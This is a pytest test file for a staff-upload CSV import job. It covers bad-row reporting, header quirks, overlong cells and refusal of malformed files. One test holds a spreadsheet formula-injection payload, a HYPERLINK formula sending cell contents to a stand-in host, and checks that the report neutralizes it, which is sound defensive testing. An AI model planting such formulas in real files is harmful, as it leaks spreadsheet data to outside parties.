"""What is wrong with a file that staff sent in is told row by row; nothing of it is loaded unless that was wanted."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from sqlalchemy import text

from importing import report, uploads
from jobs import imports as work
from store import Store
from tests.jobs.sent_in import BAD, HEADER, WRONG, found, months, sent_in, workbook


def test_bad_rows_are_reported_and_nothing_is_loaded(store: Store, folder: Path) -> None:
    id_ = sent_in(store, folder, BAD)
    work.take_in(str(id_))
    assert (found(store, id_).state, found(store, id_).counts["bad"], months(store)) == ("bad", 2, 0)
    assert uploads.bad_rows(folder, id_, 50) == [("4", "month", ["month"]), ("5", "number", ["unknown_member"])]
    assert list(folder.iterdir()) == [report.place(uploads.place(folder, id_))]
    work.clear(str(id_))
    assert list(folder.iterdir()) == []


@pytest.mark.parametrize(
    ("header", "remark"),
    [
        ("paid\nhere", "a line ends in the name of a column, as Excel lets people do"),
        ("a;b;c;d;e;f;g;h;i;j;k;l;m", "more semicolons in a name than commas between columns"),
        ('say "no"', "quotation marks"),
    ],
)
def test_bad_rows_are_listed_however_another_column_is_called(
    store: Store, folder: Path, header: str, remark: str
) -> None:
    id_ = sent_in(store, folder, workbook([*HEADER.strip().split(","), header], [*WRONG, "x"]))
    work.take_in(str(id_))
    assert found(store, id_).state == "bad", remark
    [(_row, column, codes)] = uploads.bad_rows(folder, id_, 50)
    assert (column, codes) == ("month", ["month"]), remark


def test_bad_rows_are_listed_up_to_one_that_is_too_long_for_a_page(store: Store, folder: Path) -> None:
    id_ = sent_in(store, folder, workbook([*HEADER.strip().split(","), "note"], [*WRONG, "x"], [*WRONG, "x" * 9_999]))
    work.take_in(str(id_))
    place = report.place(uploads.place(folder, id_))
    place.write_text(place.read_text("utf-8").replace("x" * 9_999, "x" * 200_000), "utf-8")
    assert len(uploads.bad_rows(folder, id_, 50)) == 1


def test_excel_reckons_nothing_in_a_report_and_an_import_reads_it_as_it_was(store: Store, folder: Path) -> None:
    odd = [*WRONG[:2], "-15600", *WRONG[3:], '=HYPERLINK("http://x.example/"&A1)', "@SUM(1)"]
    id_ = sent_in(store, folder, workbook([*HEADER.strip().split(","), "=1+1", "note"], odd))
    work.take_in(str(id_))
    first = report.place(uploads.place(folder, id_)).read_text("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(first)) for cell in row]
    assert "'-15600" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
    with store.transaction() as connection:
        connection.execute(text("DELETE FROM members"))
    again = sent_in(store, folder, first)
    work.take_in(str(again))
    assert report.place(uploads.place(folder, again)).read_text("utf-8-sig") == first


def test_good_rows_are_loaded_without_the_bad_ones_if_that_is_wanted(store: Store, folder: Path) -> None:
    id_ = sent_in(store, folder, BAD, skip_bad=True)
    work.take_in(str(id_))
    assert (found(store, id_).state, found(store, id_).counts["bad"], months(store)) == ("done", 2, 2)


@pytest.mark.parametrize(
    ("words", "reason"),
    [("a,b\n1,2\n", "no_columns"), ("", "empty"), ("number,month\n", "missing_columns"), ("ab\0cd", "no_text")],
)
def test_what_is_no_file_of_ours_is_refused_with_a_reason(store: Store, folder: Path, words: str, reason: str) -> None:
    id_ = sent_in(store, folder, words)
    work.take_in(str(id_))
    assert (found(store, id_).state, found(store, id_).reason.split(" ")[0]) == ("failed", reason)
    assert list(folder.iterdir()) == []
